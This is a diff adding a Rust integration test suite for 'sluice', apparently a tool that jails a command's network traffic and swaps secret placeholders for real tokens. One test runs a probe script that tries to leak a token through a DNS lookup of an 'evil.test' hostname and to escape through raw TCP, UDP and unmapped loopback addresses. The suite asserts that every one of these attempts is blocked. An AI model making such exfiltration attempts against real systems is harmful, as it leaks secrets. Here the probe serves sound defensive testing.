@@ -1,0 +1,229 @@
+//! `sluice run` in the jail: clients that ignore every proxy variable (and, where they read
+//! the system store, every CA variable) are captured all the same; nothing else leaves.
+//!
+//! Every connection here is to a name sluice resolves or to 127.0.0.0/8: a jail that
+//! failed would otherwise send the traffic out for real.
+
+use std::net::UdpSocket;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+use sluice_integration_tests::{RecordingUpstream, TestPki, sluice_bin};
+
+const TOKEN: &str = "tok-REAL-jail-0123456789";
+
+/// Every variable that points a client at sluice or its CA: removed before the client runs.
+const PROXY_AND_CA: &str = "HTTPS_PROXY https_proxy HTTP_PROXY http_proxy ALL_PROXY all_proxy \
+     SSL_CERT_FILE SSL_CERT_DIR REQUESTS_CA_BUNDLE CURL_CA_BUNDLE GIT_SSL_CAINFO PIP_CERT \
+     CARGO_HTTP_CAINFO AWS_CA_BUNDLE";
+
+fn text(bytes: &[u8]) -> String {
+    String::from_utf8_lossy(bytes).into_owned()
+}
+
+fn declaration(dir: &Path) -> PathBuf {
+    std::fs::write(dir.join("token"), TOKEN).unwrap();
+    let path = dir.join("policy.yaml");
+    std::fs::write(
+        &path,
+        format!(
+            "version: 1\nsecrets:\n  api_token:\n    from: {{ file: {}/token }}\n    hosts: [api.test]\n    sinks: [egress]\negress:\n  allow: [other.test]\n  allow_ips: [\"127.0.0.1/32\"]\n",
+            dir.display()
+        ),
+    )
+    .unwrap();
+    path
+}
+
+/// `sluice run` (jailed) of `sh -c SCRIPT`, the test PKI trusted upstream, api.test and
+/// other.test pinned to the recording upstream on 127.0.0.1.
+fn run_jailed(dir: &Path, ca: &Path, extra: &[&str], script: &str) -> Output {
+    Command::new(sluice_bin())
+        .args(["run", "--policy"])
+        .arg(declaration(dir))
+        .arg("--audit-log")
+        .arg(dir.join("audit.jsonl"))
+        .arg("--upstream-ca")
+        .arg(ca)
+        .args([
+            "--resolve",
+            "api.test=127.0.0.1",
+            "--resolve",
+            "other.test=127.0.0.1",
+        ])
+        .args(extra)
+        .args(["--", "sh", "-c", script])
+        .current_dir(dir)
+        .output()
+        .expect("sluice runs")
+}
+
+fn audit(dir: &Path) -> String {
+    std::fs::read_to_string(dir.join("audit.jsonl")).unwrap_or_default()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn clients_that_ignore_the_proxy_variables_are_captured_swapped_and_refused() {
+    let pki = TestPki::new();
+    let upstream =
+        RecordingUpstream::start(&pki, &["api.test", "other.test"], &[b"http/1.1"]).await;
+    let dir = tempfile::tempdir().unwrap();
+    let port = upstream.port();
+    // Python's http.client with its default context (the system store, which is the run's
+    // inside), and Node's global fetch (which ignores HTTPS_PROXY; Node trusts its own
+    // store plus NODE_EXTRA_CA_CERTS, which it reads itself).
+    let python = format!(
+        r#"import http.client, os
+for host in ("api.test", "other.test"):
+    c = http.client.HTTPSConnection(host, {port})
+    c.request("GET", "/py", headers={{"Authorization": "Bearer " + os.environ["API_TOKEN"]}})
+    r = c.getresponse()
+    print(host, r.status, r.getheader("sluice-error"))
+"#
+    );
+    let node = format!(
+        r#"(async () => {{
+  for (const host of ["api.test", "other.test"]) {{
+    const r = await fetch(`https://${{host}}:{port}/node`, {{ headers: {{ authorization: `Bearer ${{process.env.API_TOKEN}}` }} }});
+    console.log(host, r.status, r.headers.get("sluice-error"));
+  }}
+}})().catch((e) => {{ console.log("node failed", e.cause ?? e); process.exit(1); }});"#
+    );
+    std::fs::write(dir.path().join("client.py"), python).unwrap();
+    std::fs::write(dir.path().join("client.js"), node).unwrap();
+    let script = format!("unset {PROXY_AND_CA}; python3 client.py && node client.js");
+    let dir_path = dir.path().to_owned();
+    let ca = pki.ca_path();
+    let out = tokio::task::spawn_blocking(move || run_jailed(&dir_path, &ca, &[], &script))
+        .await
+        .unwrap();
+    let stdout = text(&out.stdout);
+    assert!(
+        out.status.success(),
+        "stdout: {stdout}\nstderr: {}",
+        text(&out.stderr)
+    );
+    for line in [
+        "api.test 200 None",
+        "other.test 403 placeholder-not-granted",
+        "api.test 200 null",
+        "other.test 403 placeholder-not-granted",
+    ] {
+        assert!(stdout.contains(line), "{line:?} not in {stdout}");
+    }
+    // What the upstream received: the real token, toward api.test only, from both clients.
+    let records = upstream.records();
+    assert_eq!(records.len(), 2, "{records:?}");
+    for record in &records {
+        assert_eq!(
+            record.headers["authorization"],
+            format!("Bearer {TOKEN}").as_str()
+        );
+    }
+    let log = audit(dir.path());
+    assert!(log.matches("\"event\":\"swap\"").count() >= 2, "{log}");
+    assert!(!log.contains(TOKEN));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn nothing_else_leaves_the_jail() {
+    let pki = TestPki::new();
+    let upstream = RecordingUpstream::start(&pki, &["api.test"], &[b"http/1.1"]).await;
+    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
+    udp.set_nonblocking(true).unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let (tcp_port, udp_port) = (upstream.port(), udp.local_addr().unwrap().port());
+    // A raw socket to the host's loopback service, a datagram to a host port, a name the
+    // declaration does not make reachable, a loopback address sluice never handed out.
+    let python = format!(
+        r#"import socket
+def attempt(what, f):
+    try:
+        f(); print(what, "reached")
+    except OSError as e:
+        print(what, "failed", type(e).__name__)
+attempt("tcp-host-loopback", lambda: socket.create_connection(("127.0.0.1", {tcp_port}), timeout=3).sendall(b"GET / HTTP/1.0\r\n\r\n"))
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"ping", ("127.0.0.1", {udp_port})); print("udp sent")
+attempt("dns-undeclared", lambda: socket.getaddrinfo("exfil-{TOKEN}.evil.test", 443))
+attempt("dns-declared", lambda: socket.getaddrinfo("api.test", 443))
+c = socket.create_connection(("127.0.0.2", {tcp_port}), timeout=3)
+c.settimeout(3)
+try:
+    print("unmapped", "closed" if c.recv(1) == b"" else "data")
+except OSError as e:
+    print("unmapped", "failed", type(e).__name__)
+"#
+    );
+    std::fs::write(dir.path().join("probe.py"), python).unwrap();
+    let dir_path = dir.path().to_owned();
+    let ca = pki.ca_path();
+    let out =
+        tokio::task::spawn_blocking(move || run_jailed(&dir_path, &ca, &[], "python3 probe.py"))
+            .await
+            .unwrap();
+    let stdout = text(&out.stdout);
+    assert!(
+        out.status.success(),
+        "stdout: {stdout}\nstderr: {}",
+        text(&out.stderr)
+    );
+    for line in [
+        "tcp-host-loopback failed ConnectionRefusedError",
+        "udp sent",
+        "dns-undeclared failed gaierror",
+        "dns-declared reached",
+        "unmapped closed",
+    ] {
+        assert!(stdout.contains(line), "{line:?} not in {stdout}");
+    }
+    assert_eq!(
+        upstream.connections(),
+        0,
+        "the host's loopback service was reached"
+    );
+    let mut buf = [0u8; 16];
+    assert!(udp.recv_from(&mut buf).is_err(), "a datagram left the jail");
+    let log = audit(dir.path());
+    assert!(log.contains("dns-name-not-allowed"), "{log}");
+    assert!(
+        log.contains("transparent: address not resolved through sluice"),
+        "{log}"
+    );
+    // The name asked for held the token: the deny event holds its placeholder.
+    assert!(!log.contains(TOKEN), "{log}");
+    assert!(log.contains("exfil-SLUICE_API_TOKEN_"), "{log}");
+}
+
+#[test]
+fn where_the_namespaces_cannot_be_made_the_launch_is_refused_naming_no_jail() {
+    let dir = tempfile::tempdir().unwrap();
+    let policy = declaration(dir.path());
+    let marker = dir.path().join("started");
+    // A user namespace of the test's own where no further one may be made.
+    let attempt = |extra: &str| {
+        Command::new("unshare")
+            .args(["-r", "sh", "-c"])
+            .arg(format!(
+                "echo 0 > /proc/sys/user/max_user_namespaces && exec \"$0\" run --policy \"$1\" --audit-log \"$2\" {extra} -- touch \"$3\""
+            ))
+            .arg(sluice_bin())
+            .arg(&policy)
+            .arg(dir.path().join("audit.jsonl"))
+            .arg(&marker)
+            .output()
+            .unwrap()
+    };
+    let out = attempt("");
+    let stderr = text(&out.stderr);
+    assert_eq!(out.status.code(), Some(125), "{stderr}");
+    assert!(stderr.contains("cannot make the jail"), "{stderr}");
+    assert!(stderr.contains("--no-jail"), "{stderr}");
+    assert!(stderr.contains("user namespaces"), "{stderr}");
+    assert!(!marker.exists(), "the command ran outside the jail unasked");
+    // Asked for, it runs in the host's network, and says the policy is then advisory.
+    let out = attempt("--no-jail");
+    let stderr = text(&out.stderr);
+    assert_eq!(out.status.code(), Some(0), "{stderr}");
+    assert!(marker.exists());
+    assert!(stderr.contains("advisory"), "{stderr}");
+}
